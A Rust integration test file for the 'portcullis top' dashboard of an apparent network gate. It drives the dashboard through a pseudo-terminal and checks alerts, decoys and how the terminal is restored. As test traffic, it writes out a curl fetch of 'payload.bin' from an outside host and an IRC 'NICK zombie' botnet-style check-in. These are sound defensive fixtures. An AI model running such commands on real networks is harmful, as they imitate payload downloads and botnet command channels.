//! `portcullis top` under a pseudo-terminal, before a real gate.
//!
//! As root; else what needs a gate says that it was not run.

mod common;

use common::gate::{self, BINARY};
use common::{Gate, Lab, SOON, until};
use nix::libc;
use nix::pty::{Winsize, openpty};
use nix::sys::signal::{Signal, kill};
use nix::sys::termios::{Termios, tcgetattr};
use nix::unistd::Pid;
use std::fs::File;
use std::io::{Read, Write};
use std::num::NonZeroU16;
use std::os::fd::{AsRawFd, OwnedFd};
use std::process::{Child, Command, ExitStatus, Stdio};
use std::sync::{Arc, Mutex};

/// Columns and lines.
type Size = (u16, u16);
const USUAL: Size = (80, 24);

/// A terminal with a program on it.
struct Tty {
    master: File,
    slave: OwnedFd,
    before: Termios,
    screen: Arc<Mutex<vt100::Parser>>,
    child: Child,
}

fn size(n: u16) -> NonZeroU16 {
    NonZeroU16::new(n).expect("a size")
}

impl Tty {
    /// The program gets a session with this terminal (setsid(1)).
    fn run(command: &mut Command, (columns, lines): Size) -> Tty {
        let window = Winsize {
            ws_row: lines,
            ws_col: columns,
            ws_xpixel: 0,
            ws_ypixel: 0,
        };
        let pty = openpty(Some(&window), None).expect("a pseudo-terminal");
        let end = || Stdio::from(pty.slave.try_clone().expect("a clone"));
        let before = tcgetattr(&pty.slave).expect("termios");
        let child = command
            .env("TERM", "xterm-256color")
            .stdin(end())
            .stdout(end())
            .stderr(end())
            .spawn()
            .expect("the program starts");
        let parser = vt100::Parser::new(size(lines), size(columns), 0);
        let screen = Arc::new(Mutex::new(parser));
        let master = File::from(pty.master);
        let (mut read, shown) = (master.try_clone().expect("a clone"), Arc::clone(&screen));
        std::thread::spawn(move || {
            let mut bytes = [0; 4096];
            while let Ok(n @ 1..) = read.read(&mut bytes) {
                shown.lock().expect("a screen").process(&bytes[..n]);
            }
        });
        Tty {
            master,
            slave: pty.slave,
            before,
            screen,
            child,
        }
    }

    /// `portcullis top` in the gate's namespace.
    fn top(lab: &Lab, more: &[(&str, &str)]) -> Tty {
        let socket = lab.dir().join("control.sock");
        let mut command = lab.command("gate", "setsid");
        command.args(["--ctty", BINARY, "top", "--interval", "200ms", "--socket"]);
        command.arg(socket).env_remove("NO_COLOR");
        Tty::run(command.envs(more.iter().copied()), USUAL)
    }

    fn look<T>(&self, at: impl FnOnce(&vt100::Screen) -> T) -> T {
        at(self.screen.lock().expect("a screen").screen())
    }

    fn text(&self) -> String {
        self.look(vt100::Screen::contents)
    }

    /// Waits until one line of the screen has all these words.
    fn wait(&mut self, words: &[&str]) -> String {
        let deadline = std::time::Instant::now() + SOON;
        loop {
            let text = self.text();
            let has = |line: &str| words.iter().all(|word| line.contains(word));
            if text.lines().any(has) {
                return text;
            }
            let late = std::time::Instant::now() > deadline;
            assert!(!late, "no line with {words:?} on the screen:\n{text}");
            std::thread::sleep(std::time::Duration::from_millis(10));
        }
    }

    fn press(&mut self, keys: &str) {
        self.master.write_all(keys.as_bytes()).expect("typed");
    }

    fn resize(&mut self, (columns, lines): Size) {
        let window = Winsize {
            ws_row: lines,
            ws_col: columns,
            ws_xpixel: 0,
            ws_ypixel: 0,
        };
        let mut screen = self.screen.lock().expect("a screen");
        screen.set_size(size(lines), size(columns));
        // SAFETY: a structure that the request reads (tty_ioctl(4)).
        let set =
            unsafe { libc::ioctl(self.master.as_raw_fd(), libc::TIOCSWINSZ, &raw const window) };
        assert_eq!(set, 0, "{}", std::io::Error::last_os_error());
    }

    fn ended(&mut self) -> ExitStatus {
        until("the end of top", SOON, || {
            self.child.try_wait().expect("wait")
        })
    }

    /// The terminal is as it was before there was a program on it.
    fn assert_given_back(&self) {
        until("the terminal given back", SOON, || {
            self.look(|screen| !screen.alternate_screen() && !screen.hide_cursor())
                .then_some(())
        });
        let now = tcgetattr(&self.slave).expect("termios");
        assert!(now == self.before, "{now:?}\n{:?}", self.before);
    }
}

impl Drop for Tty {
    fn drop(&mut self) {
        if std::thread::panicking() {
            eprintln!("the screen was:\n{}", self.text());
        }
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

#[test]
fn an_attempt_shows_up_with_its_host_the_form_answers_and_q_gives_the_terminal_back() {
    let Some(lab) = Lab::addressed() else { return };
    let more = format!(
        "[hosts]\ndesk-9 = {{ ip = \"10.77.0.9\" }}\n[evidence]\ndir = \"{}/evidence\"\n",
        lab.dir().display()
    );
    let _gate = Gate::with(&lab, &gate::config(&lab, "", &more));
    let mut top = Tty::top(&lab, &[]);
    top.wait(&["portcullis", "healthy", "up"]);
    top.wait(&["none since the gate started"]);
    assert!(top.look(|screen| screen.alternate_screen() && screen.hide_cursor()));

    let file = "tftp://93.184.216.34/payload.bin";
    let mut curl = lab.command("lan", "curl");
    let out = curl.args(["-sS", "-m", "1", file]).output().expect("curl");
    assert!(!out.status.success(), "{out:?}");
    let text = top.wait(&["high", "drop", "10.77.0.9", "tftp", "read payload.bin"]);
    println!("{text}\n");

    top.press("\t\r");
    top.wait(&["tftp", "file = payload.bin"]);
    top.wait(&["evidence", "tftp", ".pcapng"]);
    let text = top.wait(&["host", "10.77.0.9, called desk-9 (says config)"]);
    println!("{text}\n");
    top.press("e");
    top.wait(&["src", "10.77.0.9:"]);
    top.wait(&["app", "tftp"]);
    top.wait(&["besides", "src_mac"]);
    top.press("\r");
    let text = top.wait(&["DROP (rule) by rule tftp, alert high"]);
    println!("{text}\n");
    // What is wrong stands at its field: the cursor is in `dst`.
    top.press(&"\u{7f}".repeat(20));
    top.press("nowhere\r");
    let text = top.wait(&["! dst:"]);
    assert!(!text.contains("besides"), "it is another packet:\n{text}");
    top.press("\u{1b}");
    // A resize at the same moment has been seen to hold the key back until the next.
    until("the form gone", SOON, || {
        (!top.text().contains("Explain (Enter")).then_some(())
    });

    top.resize((120, 40));
    top.wait(&["in pkt/s", "stopped/s"]);
    let text = top.wait(&["10.77.0.9 (desk-9)", "payload.bin", "-> 93.184.216.34:69"]);
    println!("{text}\n");
    top.press("/irc\r");
    top.wait(&["Rules", "with \"irc\""]);
    top.resize((30, 5));
    top.wait(&["terminal has 30x5"]);
    top.press("q");
    assert_eq!(top.ended().code(), Some(0));
    top.assert_given_back();
}

#[test]
fn a_conversation_with_a_decoy_is_told_of_by_top_status_and_alerts() {
    let Some(lab) = Lab::addressed() else { return };
    let more = format!(
        "[decoy]\nname = \"relay.example.net\"\n[[rule]]\nname = \"irc\"\naction = \"decoy\"\n\
         [inband]\naddress = [\"10.77.0.2/24\", \"fd77::2/64\"]\nallow = [\"10.77.0.9\", \"fd77::9\"]\n[evidence]\ndir = \"{}/evidence\"\n",
        lab.dir().display()
    );
    let _gate = Gate::with(&lab, &gate::config(&lab, "", &more));
    let mut top = Tty::top(&lab, &[]);
    top.wait(&["none since the gate started"]);
    let said = "printf 'NICK zombie\\r\\nUSER z 0 * :really\\r\\n'; sleep 0.5";
    let line = format!("({said}) | curl -s -m 1 -o /dev/null telnet://93.184.216.34:6667");
    let mut shell = lab.command("lan", "sh");
    shell.args(["-c", &line]).status().expect("sh");
    let page = [
        "-sS",
        "-m",
        "5",
        "-o",
        "/dev/null",
        "http://10.77.0.2:9155/healthz",
    ];
    let asked = lab.command("lan", "curl").args(page).status();
    assert!(asked.expect("curl").success());

    top.wait(&["high", "decoy", "10.77.0.9", "irc", "zombie"]);
    top.wait(&["stopped", "to decoys"]);
    top.press("\t\r");
    top.resize((100, 48));
    top.wait(&[
        "verdict",
        "decoy: it did not pass, and the gate answered in its destination's place",
    ]);
    top.wait(&["decoy", "spoke irc for", "the client closed it"]);
    top.wait(&["was said", "C: NICK zombie"]);
    top.wait(&["S: :relay.example.net 001 zombie"]);
    let text = top.wait(&["transcript", ".decoy.txt"]);
    println!("{text}\n");

    let ours = |arguments: &[&str]| {
        let out = gate::portcullis(&lab, arguments);
        assert_eq!(out.code, Some(0), "{}", out.stderr);
        println!("{}", out.stdout);
        out.stdout
    };
    let socket = lab.dir().join("control.sock");
    let status = ours(&["status", "--socket", socket.to_str().expect("UTF-8")]);
    let has = |text: &str, words: &[&str]| {
        let line = |line: &str| words.iter().all(|word| line.contains(word));
        assert!(text.lines().any(line), "no line with {words:?} in\n{text}");
    };
    has(
        &status,
        &["decoys  0 conversations open, 1 begun, 0 refused"],
    );
    has(
        &status,
        &[
            "in band  10.77.0.2 and fd77::2 port 9155, ",
            " 1 served, frames: ",
        ],
    );
    let config = lab.dir().join("portcullis.toml");
    let config = config.to_str().expect("UTF-8");
    let alerts = ours(&["alerts", "-c", config, "--transcript"]);
    has(&alerts, &["irc", "decoy", "93.184.216.34:6667"]);
    has(&alerts, &["    decoy: spoke irc for"]);
    has(&alerts, &["      C: NICK zombie"]);
    has(&alerts, &["    transcript: ", ".decoy.txt"]);
}

#[test]
fn a_gate_that_ends_leaves_an_old_picture_and_sigterm_gives_the_terminal_back() {
    let Some(lab) = Lab::new() else { return };
    let first = Gate::start(&lab);
    let mut top = Tty::top(&lab, &[("NO_COLOR", "1")]);
    top.wait(&["portcullis", "healthy"]);
    first.end(Signal::SIGTERM);
    top.wait(&["NO ANSWER"]);
    top.wait(&["! no gate is running behind"]);
    let text = top.wait(&["! OLD PICTURE"]);
    println!("{text}\n");
    let colours = top.look(|screen| {
        let (lines, columns) = screen.size();
        let cells = (0..lines.get()).flat_map(|y| (0..columns.get()).map(move |x| (y, x)));
        cells
            .filter_map(|(y, x)| screen.cell(y, x))
            .any(|cell| cell.fgcolor() != vt100::Color::Default)
    });
    assert!(!colours, "NO_COLOR was set");
    let _second = Gate::start(&lab);
    top.wait(&["portcullis", "healthy"]);
    kill(Pid::from_raw(top.child.id() as i32), Signal::SIGTERM).expect("a process to signal");
    assert_eq!(top.ended().code(), Some(0));
    top.assert_given_back();

    // Ctrl-C is a key there.
    let mut top = Tty::top(&lab, &[]);
    top.wait(&["portcullis", "healthy"]);
    top.press("\u{3}");
    assert_eq!(top.ended().code(), Some(0));
    top.assert_given_back();
}

#[test]
fn without_a_terminal_or_a_gate_it_is_one_line_and_exit_status_2() {
    let dir = tempfile::tempdir().expect("a folder");
    let socket = dir.path().join("control.sock");
    let mut command = Command::new(BINARY);
    let out = command.args(["top", "--socket"]).arg(&socket).output();
    let out = out.expect("the program starts");
    let said = String::from_utf8(out.stderr).expect("text");
    assert_eq!((out.status.code(), said.lines().count()), (Some(2), 1));
    assert!(said.contains("`portcullis status`"), "{said}");

    let mut command = Command::new("setsid");
    command.args(["--ctty", BINARY, "top", "--socket"]);
    let mut top = Tty::run(command.arg(&socket), USUAL);
    top.wait(&["portcullis: no gate is running behind"]);
    assert_eq!(top.ended().code(), Some(2));
    top.assert_given_back();
}
